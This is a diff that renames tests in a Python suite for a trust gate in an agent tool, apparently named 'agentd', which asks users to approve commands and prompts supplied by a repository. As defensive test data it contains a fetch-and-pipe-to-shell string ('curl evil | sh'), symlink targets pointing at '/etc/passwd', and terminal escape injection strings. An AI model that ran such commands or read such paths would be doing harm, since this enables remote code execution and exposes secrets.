@@ -63,13 +63,13 @@ def user_says(box: Scenario, toml: str) -> None:
 # ---- what needs trust ------------------------------------------------------------------------------
 
 
-def test_the_defaults_written_out_need_none(box: Scenario) -> None:
+def test_default_config_needs_no_trust(box: Scenario) -> None:
     box.write("agentd/config.toml", config.render_template("notes", {}, ()))
     assert wanted(box) == {}
     trust.ensure(here(box), load(box), box.env)
 
 
-def test_checks_worktree_setup_agents_and_prompts_do(box: Scenario) -> None:
+def test_checks_worktree_setup_agents_and_prompts_need_trust(box: Scenario) -> None:
     says(box, CHECKS + '[git]\nworktree_setup = "npm ci"\n[agents.mine]\nkind = "command"\ncommand = "my-agent"\n')
     box.write("agentd/prompts/challenge.md", "Be strict.\n")
     assert wanted(box) == {
@@ -81,7 +81,7 @@ def test_checks_worktree_setup_agents_and_prompts_do(box: Scenario) -> None:
     }
 
 
-def test_what_the_user_says_is_the_users_own(box: Scenario) -> None:
+def test_settings_of_the_user_need_no_trust(box: Scenario) -> None:
     says(box, CHECKS + '[git]\nworktree_setup = "npm ci"\n[agents.claude]\nargs = ["--x"]\n')
     user_says(box, '[[checks]]\nname = "mine"\ncommand = "true"\n')
     assert list(wanted(box)) == ["worktree-setup", "agent claude"]
@@ -90,7 +90,7 @@ def test_what_the_user_says_is_the_users_own(box: Scenario) -> None:
     assert list(wanted(box)) == ["worktree-setup"]
 
 
-def test_of_an_agent_only_what_is_the_repositorys_is_asked_about_beside_what_it_means(box: Scenario) -> None:
+def test_only_repository_settings_of_an_agent_need_trust(box: Scenario) -> None:
     says(box, '[agents.claude]\nargs = ["--x"]\ncommand = "claude"\n')
     user_says(box, '[agents.claude]\nenv = ["MINE"]\n')
     assert wanted(box) == {"agent claude": 'kind = "claude"\ncommand = "claude"\nargs = ["--x"]'}
@@ -121,7 +121,7 @@ def test_every_key_that_reaches_an_agents_command_needs_trust(box: Scenario, lin
         trust.ensure(here(box), load(box), box.env)
 
 
-def test_an_agent_whose_kind_the_user_changed_is_the_users(box: Scenario) -> None:
+def test_agent_whose_kind_the_user_changed_needs_no_trust(box: Scenario) -> None:
     says(box, '[agents.claude]\nargs = ["--x"]\n')
     assert list(wanted(box)) == ["agent claude"]
     assert wanted(box, "agents.claude.kind=command", "agents.claude.command=mine") == {}
@@ -139,7 +139,7 @@ def test_an_agent_whose_kind_the_user_changed_is_the_users(box: Scenario) -> Non
         'kind = "scripted"\nplaybook = "tools/agent.sh"',
     ],
 )
-def test_a_file_in_the_repository_is_trusted_with_what_is_in_it(box: Scenario, agent: str) -> None:
+def test_trust_of_an_agent_covers_the_content_of_its_repository_files(box: Scenario, agent: str) -> None:
     says(box, f"[agents.mine]\n{agent}\n")
     box.write("tools/agent.sh", "echo good\n")
     trust_all(box)
@@ -151,7 +151,7 @@ def test_a_file_in_the_repository_is_trusted_with_what_is_in_it(box: Scenario, a
     assert standing(box) == {"agent mine": "changed"}
 
 
-def test_a_file_in_the_repository_is_the_repositorys_whoever_names_it(box: Scenario) -> None:
+def test_repository_file_needs_trust_even_if_the_user_names_it(box: Scenario) -> None:
     """A user's file says it for every repository, so each of them could bring its own."""
     says(box, "")
     user_says(box, '[agents.claude]\ncommand = "./agent.sh"\n')
@@ -161,7 +161,7 @@ def test_a_file_in_the_repository_is_the_repositorys_whoever_names_it(box: Scena
     assert wanted(box) == {}
 
 
-def test_a_link_counts_by_where_it_leads(box: Scenario, tmp_path: Path) -> None:
+def test_changed_symlink_target_needs_new_trust(box: Scenario, tmp_path: Path) -> None:
     says(box, '[agents.mine]\nkind = "command"\ncommand = "./agent"\n')
     (box.root / "agent").symlink_to("/bin/true")
     trust_all(box)
@@ -170,7 +170,7 @@ def test_a_link_counts_by_where_it_leads(box: Scenario, tmp_path: Path) -> None:
     assert standing(box) == {"agent mine": "changed"}
 
 
-def test_a_file_of_the_repository_outside_of_a_sub_project_counts(box: Scenario) -> None:
+def test_repository_file_outside_a_subproject_is_covered(box: Scenario) -> None:
     inner = box.root / "packages/api"
     box.write("packages/api/agentd/config.toml", '[agents.mine]\nkind = "command"\ncommand = "../../agent.sh"\n')
     box.write("agent.sh", "one\n")
@@ -179,7 +179,7 @@ def test_a_file_of_the_repository_outside_of_a_sub_project_counts(box: Scenario)
     assert '"agent.sh" = sha256:' in item.text
 
 
-def test_an_argument_of_any_length_is_no_file(box: Scenario) -> None:
+def test_overlong_argument_is_not_treated_as_a_file(box: Scenario) -> None:
     says(box, f'[agents.mine]\nkind = "command"\ncommand = "x"\nargs = ["{"a" * 6000}", "{"b/" * 3000}", ""]\n')
     assert list(wanted(box)) == ["agent mine"]
 
@@ -187,7 +187,7 @@ def test_an_argument_of_any_length_is_no_file(box: Scenario) -> None:
 # ---- prompts ---------------------------------------------------------------------------------------
 
 
-def test_prompts_are_known_by_every_byte(box: Scenario) -> None:
+def test_prompts_are_identified_by_every_byte(box: Scenario) -> None:
     says(box, "")
     path = box.write("agentd/prompts/deep/review.md")
     path.write_bytes(b"caf\xe9\r\n")
@@ -201,7 +201,7 @@ def test_prompts_are_known_by_every_byte(box: Scenario) -> None:
     assert standing(box) == {"prompt deep/review.md": "changed"}
 
 
-def test_a_link_within_the_repository_is_followed(box: Scenario) -> None:
+def test_symlink_within_the_repository_is_followed(box: Scenario) -> None:
     says(box, "")
     box.write("docs/review.md", "one")
     box.write("agentd/prompts/a.md", "")
@@ -210,7 +210,7 @@ def test_a_link_within_the_repository_is_followed(box: Scenario) -> None:
 
 
 @pytest.mark.parametrize("target", ["/etc/passwd", "../../../outside.md", "../../docs", "nothing", "/etc"])
-def test_a_link_out_of_the_repository_or_to_no_file_is_refused(box: Scenario, target: str) -> None:
+def test_symlink_out_of_the_repository_or_to_a_non_file_is_refused(box: Scenario, target: str) -> None:
     says(box, "")
     box.write("docs/x.md")
     (box.root.parent / "outside.md").write_text("secret")
@@ -220,7 +220,7 @@ def test_a_link_out_of_the_repository_or_to_no_file_is_refused(box: Scenario, ta
         trust.ensure(here(box), load(box), box.env)
 
 
-def test_the_folder_of_prompts_does_not_lead_out_either(box: Scenario) -> None:
+def test_prompts_folder_linked_outside_is_refused(box: Scenario) -> None:
     says(box, "")
     (box.root.parent / "prompts").mkdir()
     (box.root.parent / "prompts/a.md").write_text("secret")
@@ -229,7 +229,7 @@ def test_the_folder_of_prompts_does_not_lead_out_either(box: Scenario) -> None:
         trust.overrides(here(box))
 
 
-def test_a_pipe_or_a_huge_file_among_the_prompts_holds_nobody_up(box: Scenario) -> None:
+def test_pipe_or_huge_file_among_the_prompts_is_refused(box: Scenario) -> None:
     says(box, "")
     (box.root / "agentd/prompts").mkdir()
     os.mkfifo(box.root / "agentd/prompts/a.md")
@@ -245,7 +245,7 @@ def test_a_pipe_or_a_huge_file_among_the_prompts_holds_nobody_up(box: Scenario) 
 # ---- trusting --------------------------------------------------------------------------------------
 
 
-def test_one_character_makes_it_untrusted_again(box: Scenario) -> None:
+def test_changing_one_character_revokes_trust(box: Scenario) -> None:
     says(box, CHECKS)
     trust_all(box)
     says(box, CHECKS.replace("make test", "make tesu"))
@@ -255,7 +255,7 @@ def test_one_character_makes_it_untrusted_again(box: Scenario) -> None:
         trust.ensure(here(box), load(box), box.env)
 
 
-def test_two_branches_with_two_versions_do_not_ask_in_turns(box: Scenario) -> None:
+def test_versions_of_two_branches_stay_trusted(box: Scenario) -> None:
     for command in ("make test", "make tests"):
         says(box, CHECKS.replace("make test", command))
         trust_all(box)
@@ -263,13 +263,13 @@ def test_two_branches_with_two_versions_do_not_ask_in_turns(box: Scenario) -> No
     assert set(standing(box).values()) == {"trusted"}
 
 
-def test_the_same_text_is_not_trusted_as_something_else(box: Scenario) -> None:
+def test_same_text_is_not_trusted_for_another_purpose(box: Scenario) -> None:
     says(box, '[git]\nworktree_setup = "make test"\n')
     trust.give(here(box), [Item(Kind.CHECK, "tests", "make test")], box.env)
     assert standing(box) == {"worktree-setup": "new"}
 
 
-def test_what_is_given_is_what_was_shown(box: Scenario) -> None:
+def test_only_what_was_shown_is_trusted(box: Scenario) -> None:
     says(box, CHECKS)
     shown = trust.wanted(here(box), load(box))
     says(box, CHECKS.replace("make test", "curl evil | sh"))
@@ -277,7 +277,7 @@ def test_what_is_given_is_what_was_shown(box: Scenario) -> None:
     assert standing(box)["check tests"] == "changed"
 
 
-def test_two_repositories_and_two_projects_of_one_do_not_share_trust(box: Scenario, tmp_path: Path) -> None:
+def test_repositories_and_projects_do_not_share_trust(box: Scenario, tmp_path: Path) -> None:
     says(box, CHECKS)
     trust_all(box)
     box.commit()
@@ -289,7 +289,7 @@ def test_two_repositories_and_two_projects_of_one_do_not_share_trust(box: Scenar
         assert [one.status for one in left] == [Status.NEW, Status.NEW], folder
 
 
-def test_the_work_trees_of_a_repository_share_it(box: Scenario, tmp_path: Path) -> None:
+def test_worktrees_of_a_repository_share_trust(box: Scenario, tmp_path: Path) -> None:
     says(box, CHECKS)
     trust_all(box)
     box.commit()
@@ -298,7 +298,7 @@ def test_the_work_trees_of_a_repository_share_it(box: Scenario, tmp_path: Path) 
     trust.ensure(tree, config.load(tree.config_file, environ=box.env), box.env)
 
 
-def test_withdrawing_takes_everything_of_this_project_and_nothing_else(box: Scenario, tmp_path: Path) -> None:
+def test_withdrawing_trust_affects_only_this_project(box: Scenario, tmp_path: Path) -> None:
     says(box, CHECKS)
     trust_all(box)
     other = Scenario(tmp_path / "other", box.home)
@@ -310,7 +310,7 @@ def test_withdrawing_takes_everything_of_this_project_and_nothing_else(box: Scen
     assert trust.withdraw(here(box), box.env) == 0
 
 
-def test_an_error_lists_what_is_wrong_in_a_few_lines_that_a_terminal_does_not_obey(box: Scenario) -> None:
+def test_error_lists_a_few_printable_lines(box: Scenario) -> None:
     many = "".join(f'[[checks]]\nname = "c{n}"\ncommand = "a\\u001b[2Jb\\u202e{"x" * 300}\\nc"\n' for n in range(40))
     says(box, many)
     with pytest.raises(NotTrusted) as caught:
@@ -328,7 +328,7 @@ def trust_file(box: Scenario) -> Path:
     return box.home / ".config/agentd/trust.json"
 
 
-def test_it_is_the_users_alone_and_beside_the_users_config(box: Scenario, tmp_path: Path) -> None:
+def test_trust_file_is_private_and_next_to_the_user_config(box: Scenario, tmp_path: Path) -> None:
     says(box, CHECKS)
     trust_all(box)
     assert stat.S_IMODE(trust_file(box).stat().st_mode) == 0o600
@@ -353,7 +353,7 @@ def test_it_is_the_users_alone_and_beside_the_users_config(box: Scenario, tmp_pa
         "[" * 100_000,
     ],
 )
-def test_a_broken_file_is_named_and_neither_passed_over_nor_written_over(box: Scenario, text: str) -> None:
+def test_broken_trust_file_is_named_and_neither_ignored_nor_overwritten(box: Scenario, text: str) -> None:
     settings = says(box, CHECKS)
     trust_file(box).parent.mkdir(parents=True)
     trust_file(box).write_text(text)
@@ -370,7 +370,7 @@ def test_a_broken_file_is_named_and_neither_passed_over_nor_written_over(box: Sc
     assert trust_file(box).read_text() == text
 
 
-def test_without_a_home_nothing_is_trusted_and_it_says_so(box: Scenario) -> None:
+def test_nothing_is_trusted_without_a_home_folder(box: Scenario) -> None:
     settings = says(box, CHECKS)
     trust_all(box)
     del box.env["HOME"]
@@ -381,7 +381,7 @@ def test_without_a_home_nothing_is_trusted_and_it_says_so(box: Scenario) -> None
         trust.give(here(box), trust.wanted(here(box), settings), box.env)
 
 
-def test_a_link_to_the_file_stays_a_link(box: Scenario, tmp_path: Path) -> None:
+def test_symlinked_trust_file_stays_a_symlink(box: Scenario, tmp_path: Path) -> None:
     says(box, CHECKS)
     trust_file(box).parent.mkdir(parents=True)
     trust_file(box).symlink_to(tmp_path / "kept.json")
@@ -389,7 +389,7 @@ def test_a_link_to_the_file_stays_a_link(box: Scenario, tmp_path: Path) -> None:
     assert trust_file(box).is_symlink() and json.loads((tmp_path / "kept.json").read_text())
 
 
-def test_a_long_text_is_known_by_its_hash_alone(box: Scenario) -> None:
+def test_long_text_is_stored_only_by_its_hash(box: Scenario) -> None:
     says(box, "")
     box.write("agentd/prompts/long.md", "secret " * 1000)
     trust_all(box)
@@ -399,7 +399,7 @@ def test_a_long_text_is_known_by_its_hash_alone(box: Scenario) -> None:
     assert one.status is Status.CHANGED and one.was and one.was.text is None
 
 
-def test_the_file_does_not_grow_with_every_change(box: Scenario) -> None:
+def test_trust_file_does_not_grow_without_bound(box: Scenario) -> None:
     says(box, CHECKS)
     project = here(box)
     for number in range(50):
@@ -420,7 +420,7 @@ for number in range(20):
 """
 
 
-def test_many_at_once_lose_nothing(box: Scenario, tmp_path: Path) -> None:
+def test_concurrent_trust_changes_lose_nothing(box: Scenario, tmp_path: Path) -> None:
     """Four repositories and two processes in each, all writing the one file."""
     boxes = [Scenario(tmp_path / f"repo{number}", box.home) for number in range(4)]
     running = []
